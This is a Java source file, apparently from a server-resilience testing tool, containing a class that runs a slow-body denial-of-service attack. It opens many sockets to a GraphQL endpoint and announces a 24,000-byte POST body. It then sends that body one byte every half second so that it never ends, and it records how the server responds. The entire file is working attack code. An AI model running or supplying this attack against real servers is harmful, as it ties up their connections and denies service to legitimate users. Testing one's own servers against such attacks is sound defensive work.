package io.github.ordermill.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.time.Duration;
import java.util.ArrayList;
import java.util.concurrent.locks.LockSupport;

/** Requests whose body is sent byte by byte and never ends. */
public final class SlowBodies implements Attack {

  private static final long BETWEEN_BYTES = Duration.ofMillis(500).toNanos();

  private final URI server;
  private final int connections;

  public SlowBodies(URI server, int connections) {
    this.server = server;
    this.connections = connections;
  }

  @Override
  public Outcomes run(Duration duration) {
    var outcomes = new Outcomes();
    var open = new ArrayList<Socket>();
    long end = System.nanoTime() + duration.toNanos();
    while (System.nanoTime() < end) {
      open.removeIf(socket -> isOver(socket, outcomes));
      while (open.size() < connections && begin(open, outcomes)) {
        // until all are open, or one is refused
      }
      LockSupport.parkNanos(BETWEEN_BYTES);
    }
    open.forEach(socket -> close(socket, "still open", outcomes));
    return outcomes;
  }

  private boolean begin(ArrayList<Socket> open, Outcomes outcomes) {
    try {
      var socket = new Socket(server.getHost(), server.getPort());
      open.add(socket);
      var head =
          "POST /graphql HTTP/1.1\r\nHost: "
              + server.getAuthority()
              + "\r\nContent-Type: application/json\r\nContent-Length: 24000\r\n\r\n{\"query\": ";
      socket.getOutputStream().write(head.getBytes(US_ASCII));
      return true;
    } catch (IOException refused) {
      outcomes.add("refused");
      return false;
    }
  }

  /** Sends one byte more, unless the server has answered or closed the connection. */
  private static boolean isOver(Socket socket, Outcomes outcomes) {
    try {
      if (socket.getInputStream().available() > 0) {
        var status = new String(socket.getInputStream().readNBytes(12), US_ASCII);
        close(socket, status, outcomes);
        return true;
      }
      socket.getOutputStream().write(' ');
      return false;
    } catch (IOException closed) {
      close(socket, "closed", outcomes);
      return true;
    }
  }

  private static void close(Socket socket, String outcome, Outcomes outcomes) {
    outcomes.add(outcome);
    try {
      socket.close();
    } catch (IOException e) {
      outcomes.add("not closed");
    }
  }

  @Override
  public String toString() {
    return connections + " bodies sent byte by byte";
  }
}
